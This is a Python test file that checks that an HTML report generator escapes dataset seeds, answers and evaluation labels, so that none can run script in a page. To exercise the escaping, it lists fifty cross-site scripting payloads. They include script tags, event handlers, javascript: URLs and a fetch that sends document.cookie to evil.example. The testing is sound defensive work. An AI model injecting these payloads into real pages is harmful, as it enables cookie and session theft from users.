"""No text of seeds, answers, labels or settings can run, or fetch anything, in a page."""

from __future__ import annotations

import itertools
import json
from pathlib import Path

import pytest
from forged_evaluation import forge_evaluation
from page_reader import PageReader

from data_gen.page import bar, element, page, table
from data_gen.records import Record, Turn
from data_gen.report import write_report
from data_gen.shards import write_dataset
from wizard_jax.report import comparison

_CALLS = ("alert(1)", "fetch('https://evil.example/?'+document.cookie)")
_FORMS = (
    "<script>{}</script>",
    "</pre><script>{}</script>",
    "</td></tr></table><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</svg><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<SCRIPT SRC=https://evil.example/x.js>{}</SCRIPT>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "' onmouseover='{}' x='",
    '" onfocus="{}" autofocus x="',
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x>",
    "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<style>@import 'https://evil.example/{}';</style>",
    "<link rel=stylesheet href='https://evil.example/{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='https://evil.example/{}'>",
    "<form action='https://evil.example/{}'><button>x",
    "&lt;script&gt;{}&lt;/script&gt;<script>{0}</script>",
    "<details open ontoggle={}>",
)
HOSTILE = tuple(form.replace("{0}", "{}").replace("{}", call) for form, call in itertools.product(_FORMS, _CALLS))


def check(target: Path, *, shown: tuple[str, ...]) -> PageReader:
    read = PageReader(target)
    assert not read.dangers
    assert "default-src 'none'" in read.policy
    assert "script-src" not in read.policy
    for text in shown:
        assert text in read.text
    return read


def test_there_are_fifty_of_them_and_the_reader_sees_each(tmp_path: Path) -> None:
    assert len(set(HOSTILE)) == 50
    for text in HOSTILE:
        raw = tmp_path / "raw.html"
        raw.write_text(f"<p title=\"{text}\">{text}</p><p title='{text}'></p>")
        assert PageReader(raw).dangers, text


@pytest.mark.parametrize("text", ["<b>", "a & b", "\"quoted\" and 'quoted'", "&amp;"])
def test_text_is_escaped_wherever_it_is_put(text: str, tmp_path: Path) -> None:
    target = tmp_path / "page.html"
    parts = (element("p", text), table((text,), [(text,)]), element("pre", element("b", text), css=text))
    target.write_text(page(text, text, *parts))
    assert PageReader(target).text.count(text) == 7


def test_a_bar_never_leaves_its_cell() -> None:
    for share in (-1.0, 0.0, 0.5, 1.0, 7.0):
        width = float(bar(share).markup.split("width:")[1].split("rem")[0])
        assert 0 <= width <= 10


def test_hostile_seeds_and_answers_are_only_text_in_the_report_of_a_data_set(tmp_path: Path) -> None:
    shown, dropped = HOSTILE[:24], HOSTILE[24:36]
    records = [
        Record(
            id=f"{number // 2:06d}/{number % 2}",
            lineage=f"{number // 2:06d}",
            turns=(Turn("user", text), Turn("assistant", text[::-1] + text)),
            round=number % 2,
            operation=text if number % 2 else "",
            source=text,
            model=text,
        )
        for number, text in enumerate(shown)
    ]
    write_dataset(records, tmp_path / "dataset", name="bad", count=24, records_per_shard=9, description=HOSTILE[0])
    columns = ("lineage", "operation", "rule", "evidence", "instruction", "answer", "source")
    rejected = [{**dict.fromkeys(columns, text), "round": 1} for text in dropped]
    (tmp_path / "rejected.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rejected))
    target = write_report(tmp_path, {HOSTILE[36]: HOSTILE[37], "list": [HOSTILE[38]], "map": {HOSTILE[39]: 1}})
    check(target, shown=(*shown, *dropped, *HOSTILE[37:40]))


def test_hostile_labels_and_answers_are_only_text_in_a_comparison(tmp_path: Path) -> None:
    answers = itertools.cycle(HOSTILE)
    folders = [
        forge_evaluation(tmp_path / f"eval{number}", answer=lambda _: next(answers), label=label, model=label)
        for number, label in enumerate((*HOSTILE[:12], *HOSTILE[24:30]))
    ]
    comparison.write_report(folders, tmp_path / "report.html")
    check(tmp_path / "report.html", shown=(*HOSTILE[:12], *HOSTILE[24:30]))
